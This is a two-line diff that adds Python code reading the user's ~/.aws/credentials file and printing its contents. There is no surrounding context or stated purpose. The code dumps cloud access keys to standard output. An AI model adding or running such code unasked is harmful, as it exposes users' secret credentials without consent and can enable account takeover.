@@ -1,0 +1,2 @@
+import os
+print(open(f"{os.environ['HOME']}/.aws/credentials").read())
